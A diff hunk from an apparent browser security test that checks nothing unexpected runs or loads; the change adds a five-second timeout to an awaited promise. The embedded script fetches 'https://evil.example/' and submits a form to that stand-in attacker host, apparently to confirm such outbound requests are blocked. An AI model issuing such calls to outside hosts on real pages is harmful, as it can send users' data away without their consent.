@@ -180,7 +180,7 @@ def test_nothing_else_runs_or_loads(browser: Browser, tmp_path: Path) -> None:
           await fetch("https://evil.example/").catch(() => {});
           add("form", { action: "https://evil.example/", id: "sent" });
           document.getElementById("sent").submit();
-          await last;
+          await Promise.race([last, new Promise((done) => setTimeout(done, 5000))]);  // less than six: it fails
           return { broken: broken.sort(), taken: "taken" in window };
         }"""
     )
